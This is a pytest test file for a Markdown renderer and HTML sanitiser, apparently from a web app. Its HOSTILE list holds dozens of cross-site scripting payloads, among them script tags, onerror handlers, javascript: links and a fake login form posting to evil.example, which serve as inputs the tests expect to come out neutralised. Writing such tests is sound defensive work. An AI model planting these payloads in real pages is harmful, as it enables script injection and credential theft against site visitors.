"""Markdown: what it can do, what hostile text cannot, and that threads do not mix their texts up."""

from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.kernel.errors import InvalidInputError
from app.kernel.markup import MAX_SOURCE_LENGTH, Heading, anchor, count_han, guess_language, render
from app.kernel.sanitising import clean, plain_text
from tests.thorough import examples

ALLOWED = set(
    "a abbr b blockquote br caption cite code col colgroup dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 "
    "h6 hr i img ins kbd label li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead "
    "tr u ul var".split()
)
HARMLESS = {
    *("class", "id", "lang", "dir", "title", "href", "src", "alt", "width", "height", "align", "colspan", "rowspan"),
    *("scope", "start", "rel", "tabindex", "role", "loading", "decoding"),
}


class Inspector(HTMLParser):
    """Reads HTML as a browser does and notes whatever could act, and whether every tag is closed."""

    VOID = frozenset({"br", "hr", "img", "col"})

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        self.faults += [f"<{tag}> is not closed" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
        if tag not in self.VOID:
            self.open.append(tag)
        for name, value in attrs:
            if name not in HARMLESS:
                self.faults.append(f"<{tag} {name}>")
            if name in {"href", "src"} and not self.is_harmless(value or ""):
                self.faults.append(f"<{tag} {name}={value}>")
            if name == "id" and not re.match(r"h-|fn:|fnref\d*:", value or ""):
                self.faults.append(f"id={value}")

    @staticmethod
    def is_harmless(url: str) -> bool:
        """As the URL standard reads it: white space before counts for nothing, nor do tabs and line breaks within."""
        read = re.sub(r"[\t\r\n]", "", url.lstrip("".join(map(chr, range(33)))))
        scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", read)
        return scheme is None or scheme[1].lower() in {"http", "https", "mailto"}

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> closes nothing")


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" / >',
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a><a href="&#1;javascript:x">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    '[x](https://e.example "t\\" onmouseover=\\"alert(1)")',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<input type="image" src="x" onclick="alert(1)"><input type="password">',
    '<p style="position:fixed;inset:0">x</p><style>body{display:none}</style>',
    '<link rel="stylesheet" href="//evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<div id="main">x</div><a id="theme" name="theme">x</a><img name="cookie" src="x">',
    '<b title="<img src=x onerror=alert(1)>">x</b>',
    '<b title="<table>">x</b><b title="<pre>">x</b>',
    '<table class="x"><tr><td>x</table>',
    "</div></main><table></table></table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```html\n<script>alert(1)</script>\n```",
    "``` {onclick=alert(1)}\nx\n```",
    "``` { .python onclick='alert(1)' id='main' }\nx\n```",
    "# Heading {onclick=alert(1)}",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    "!!! danger onclick=alert(1)\n    x",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    '<div markdown="1"><script>alert(1)</script></div>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_in_a_text_can_act(source: str) -> None:
    for text in (source, f"Before {source} after", f"> {source}", f"- {source}\n- x", f"## {source}\n\nText"):
        assert Inspector(render(text).html).faults == []


@given(st.lists(st.sampled_from([*HOSTILE, "\n", " ", "`", "*", "> ", "- ", "|", "<b>", "</div>", '"']), max_size=6))
@settings(max_examples=examples(150), deadline=None)
def test_nothing_in_a_mixture_can_act(pieces: list[str]) -> None:
    assert Inspector(render("".join(pieces)).html).faults == []


@given(st.text(max_size=200))
@settings(max_examples=examples(200), deadline=None)
def test_any_text_becomes_a_page(source: str) -> None:
    rendered = render(source)

    assert Inspector(rendered.html).faults == []
    assert rendered.minutes >= 1


def test_what_markdown_can_do() -> None:
    html = render(
        "## What\n\nText with **weight**, `code`, ~~gone~~ and a [link](/practices/trunk).\n\n"
        "1. one\n2. two\n\n- [x] done\n- [ ] open\n\n> quoted\n\nTerm\n:   meaning\n\n!!! note\n    Mind this.\n\nSee[^1].\n\n"
        "[^1]: The source.\n"
    ).html

    for piece in (
        '<h2 id="h-what">What</h2>',
        "<strong>weight</strong>",
        "<code>code</code>",
        "<del>gone</del>",
        '<a href="/practices/trunk" rel="noopener">link</a>',
        "<ol>\n<li>one</li>",
        "☑",
        "☐",
        "<blockquote>",
        "<dt>Term</dt>",
        '<div class="admonition note">',
        'href="#fn:1"',
    ):
        assert piece in html


def test_tables_scroll_and_are_aligned_without_style() -> None:
    html = render("| a | b |\n| --- | ---: |\n| 1 | 2 |\n").html

    assert html.startswith('<div class="scroll" tabindex="0" role="group"><table>')
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_a_table_written_as_html_is_wrapped_and_closed_once() -> None:
    html = render('<table class="x"><tr><td>1</td></tr></table>').html

    assert html.count("<div") == html.count("</div>") == 1


def test_code_is_coloured_by_classes_and_reached_by_keyboard() -> None:
    html = render("```python\ndef greet(): pass\n```").html

    assert '<pre tabindex="0">' in html
    assert '<span class="k">def</span>' in html


def test_code_of_an_unknown_language_stays_code() -> None:
    assert "x = &lt;y&gt;" in render("```nonsense\nx = <y>\n```").html


def test_headings_make_the_contents_list_with_ids_for_every_language() -> None:
    rendered = render("# Title\n## First `step`\n### 第一步\n## First `step`\n#### deep\n## A & B")

    assert rendered.headings == (
        Heading(2, "h-first-step", "First step"),
        Heading(3, "h-第一步", "第一步"),
        Heading(2, "h-first-step_1", "First step"),
        Heading(2, "h-a--b", "A & B"),
    )
    for heading in rendered.headings:
        assert f'id="{heading.anchor}"' in rendered.html
    assert anchor("第一步") == "h-第一步"


def test_links_and_images_are_resolved_and_may_be_dropped() -> None:
    asked: list[tuple[str, str]] = []

    def resolve(kind: str, target: str) -> str | None:
        asked.append((kind, target))
        return None if "gone" in target else f"/resolved/{target}"

    html = render("[a](b.md) [c](gone.md) ![d](e.png) ![f](gone.png)", resolve).html

    assert sorted(asked) == [("image", "e.png"), ("image", "gone.png"), ("link", "b.md"), ("link", "gone.md")]
    assert 'href="/resolved/b.md"' in html
    assert 'src="/resolved/e.png"' in html
    assert "gone" not in html


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:x", "data:text/html,x"]
)
def test_what_a_resolver_says_is_checked_too(target: str) -> None:
    html = render("[a](b) ![c](d)", lambda _kind, _target: target).html

    assert "href" not in html
    assert "src" not in html
    assert 'href="/a:b"' in render("[a](b)", lambda _kind, _target: "/a:b").html


def test_plain_text_is_what_a_person_reads() -> None:
    html = render("# One\n\nTwo **three**\nfour &amp; `five`\n\n- six\n- seven\n\n![eight](x.png)\n").html

    assert plain_text(html) == "One\nTwo three\nfour & five\nsix\nseven\neight"


def test_reading_time_counts_words_and_han() -> None:
    assert render("word " * 238).minutes == 1
    assert render("word " * 239).minutes == 2
    assert render("字" * 390).minutes == 1
    assert render("字" * 390 + " " + "word " * 238).minutes == 2
    assert render("").minutes == 1
    rendered = render("主干开发 with Git，每天 2 次")
    assert (rendered.words, rendered.han) == (3, 7)


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("Merge every day.", "en"),
        ("每天合入主干", "zh"),
        ("用 Jenkins 流水线构建", "zh"),
        ("Scrum (敏捷) is a framework for teams", "en"),
        ("", "en"),
        ("123", "en"),
    ],
)
def test_the_language_is_told_from_the_letters(text: str, language: str) -> None:
    assert guess_language(text) == language


def test_han_are_counted() -> None:
    assert count_han("主干 trunk 㐀 豈") == 4


def test_a_text_that_is_too_long_is_refused_with_a_sentence() -> None:
    with pytest.raises(InvalidInputError, match=r"The text has 400,001 characters; at most 400,000"):
        render("x" * (MAX_SOURCE_LENGTH + 1))


def test_a_text_that_is_nested_too_deeply_is_refused_and_the_next_is_not() -> None:
    with pytest.raises(InvalidInputError, match="nested too deeply"):
        render("1. " * 5000)

    assert render("**fine**").html == "<p><strong>fine</strong></p>"


def test_threads_do_not_mix_their_texts_up() -> None:
    def text(number: int) -> str:
        return f"# Title {number}\n\n## Part {number}\n\nText {number}[^1] and [a link][ref].\n\n[^1]: Note {number}.\n\n[ref]: /{number}\n"

    alone = {number: render(text(number)) for number in range(40)}

    with ThreadPoolExecutor(8) as pool:
        together = list(pool.map(lambda number: (number % 40, render(text(number % 40))), range(400)))

    assert all(rendered == alone[number] for number, rendered in together)


def test_cleaning_twice_is_cleaning_once() -> None:
    once = clean('<p class="note x evil">a<script>b</script><b onclick="c">d</b></p>')

    assert once == '<p class="note x">a<b>d</b></p>'
    assert clean(once) == once
